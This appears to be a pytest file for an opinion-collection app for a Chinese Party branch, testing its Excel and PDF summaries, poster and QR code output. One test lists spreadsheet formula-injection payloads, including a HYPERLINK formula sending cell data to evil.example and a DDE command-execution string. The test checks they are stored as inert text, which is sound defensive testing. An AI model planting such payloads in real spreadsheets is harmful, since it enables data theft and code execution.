from io import BytesIO

from openpyxl import load_workbook
from pypdf import PdfReader

from orglife.opinions.pdf import poster_pdf, qr_svg, summary_pdf
from orglife.opinions.services import opinion_answer
from orglife.opinions.summary import build_summary
from orglife.opinions.xlsx import summary_workbook


def _pdf_text(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages)


def test_summary_workbook_cells_are_exact(triaged):
    book = load_workbook(BytesIO(summary_workbook(campaign=triaged, summary=build_summary(triaged.opinions.all()))))

    rows = [list(row) for row in book["汇总表"].iter_rows(values_only=True)]
    stats = [list(row) for row in book["统计"].iter_rows(values_only=True)]

    assert [row[0] for row in rows[:3]] == [
        "意见建议汇总表",
        f"第一党支部　2022年专题组织生活会征求意见　{triaged.opens_on:%Y}年{triaged.opens_on.month}月"
        f"{triaged.opens_on.day}日至{triaged.closes_on:%Y}年{triaged.closes_on.month}月{triaged.closes_on.day}日",
        "征求对党支部班子的意见，共征求意见建议6条，其中党员1条、群众4条、服务对象1条，合并相同意见后为4条。",
    ]
    assert rows[3:] == [
        ["序号", "方面", "意见建议", "来源", "提出次数", "处理情况", "答复或说明"],
        [1, "学习", "学习笔记抄多想少。", "党员", 1, "待处理", None],
        [
            2,
            "工作",
            "会议太多太长。\n另有2条相同意见：\n（1）学习会也开得太长。（方面：学习）\n（2）开会时间长。",
            "群众、服务对象",
            3,
            "已采纳",
            "列入问题清单（工作方面）：会议多、会议长，挤占干事时间。",
        ],
        [3, "生活", "建议发放过节费。", "群众", 1, "不予采纳", "不符合纪律要求。"],
        [4, "其他", "希望公开党费使用情况。", "群众", 1, "已答复", "已在公示栏公开。"],
    ]
    assert stats == [
        ["来源", "条数"],
        ["党员", 1],
        ["群众", 4],
        ["服务对象", 1],
        [None, None],
        ["方面", "条数"],
        ["学习", 2],
        ["工作", 2],
        ["生活", 1],
        ["其他", 1],
        [None, None],
        ["合计", 6],
        ["合并相同意见后", 4],
    ]


def test_summary_workbook_never_prints_a_signer(world, triaged, submit):
    submit("署名的意见。", source="member", user=world.committee, signed=True)

    book = load_workbook(BytesIO(summary_workbook(campaign=triaged, summary=build_summary(triaged.opinions.all()))))

    cells = {str(v) for row in book["汇总表"].iter_rows(values_only=True) for v in row if v is not None}
    assert not any(world.committee.full_name in cell for cell in cells)


def test_summary_pdf_text(triaged):
    text = _pdf_text(summary_pdf(campaign=triaged, summary=build_summary(triaged.opinions.all())))

    compact = "".join(text.split())  # wrapped cells break lines anywhere
    assert compact.startswith("意见建议汇总表第一党支部")
    expected = [
        "征求对党支部班子的意见，共征求意见建议6条，其中党员1条、群众4条、服务对象1条，合并相同意见后为4条。",
        "序号方面意见建议来源提出次数处理情况答复或说明",
        "1学习学习笔记抄多想少。党员1待处理",
        "2工作会议太多太长。另有2条相同意见：（1）学习会也开得太长。（方面：学习）（2）开会时间长。"
        "群众、服务对象3已采纳列入问题清单（工作方面）：会议多、会议长，挤占干事时间。",
        "3生活建议发放过节费。群众1不予采纳不符合纪律要求。",
        "4其他希望公开党费使用情况。群众1已答复已在公示栏公开。",
        "分类统计来源条数党员1群众4服务对象1方面条数学习2工作2生活1其他1",
    ]
    positions = [compact.find(part) for part in expected]
    assert -1 not in positions, [part for part, at in zip(expected, positions, strict=True) if at == -1]
    assert positions == sorted(positions)


def test_poster_pdf_carries_the_link(triaged):
    url = f"https://orglife.example.org/o/{triaged.token}/"

    content = poster_pdf(campaign=triaged, url=url)

    reader = PdfReader(BytesIO(content))
    text = _pdf_text(content)
    assert len(reader.pages) == 1
    assert [url in text, "请用微信扫一扫，填写意见建议" in text, "征求对党支部班子的意见建议" in text] == [True] * 3


def test_qr_code_is_inline_svg_markup_without_the_link_text():
    url = "https://orglife.example.org/o/abc/?a=<b>"

    markup = qr_svg(url)

    assert markup.startswith('<svg viewBox="0 0 ')
    assert markup.endswith("</svg>")
    assert ("orglife.example.org" in markup, "<b>" in markup) == (False, False)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+1",
    "-2+3 请核实",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_summary_workbook_never_makes_a_formula_of_user_text(world, campaign, submit):
    for text in FORMULAS:
        submit(text, category="工作")
    answered = submit("==答复也不能是公式。", category="学习")
    opinion_answer(opinion=answered, response="=1+2")

    book = load_workbook(BytesIO(summary_workbook(campaign=campaign, summary=build_summary(campaign.opinions.all()))))

    cells = {cell.value: cell.data_type for row in book["汇总表"].iter_rows(min_row=5) for cell in row[2:7:4]}
    assert {text: cells.get(text) for text in [*FORMULAS, "==答复也不能是公式。", "=1+2"]} == {
        text: "s" for text in [*FORMULAS, "==答复也不能是公式。", "=1+2"]
    }
    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "f" not in {cell.data_type for cell in every}


def test_summary_workbook_drops_control_characters_xml_cannot_hold(campaign, submit):
    submit("意见\x0b带有\x01控制字符。")

    book = load_workbook(BytesIO(summary_workbook(campaign=campaign, summary=build_summary(campaign.opinions.all()))))

    assert book["汇总表"]["C5"].value == "意见带有控制字符。"
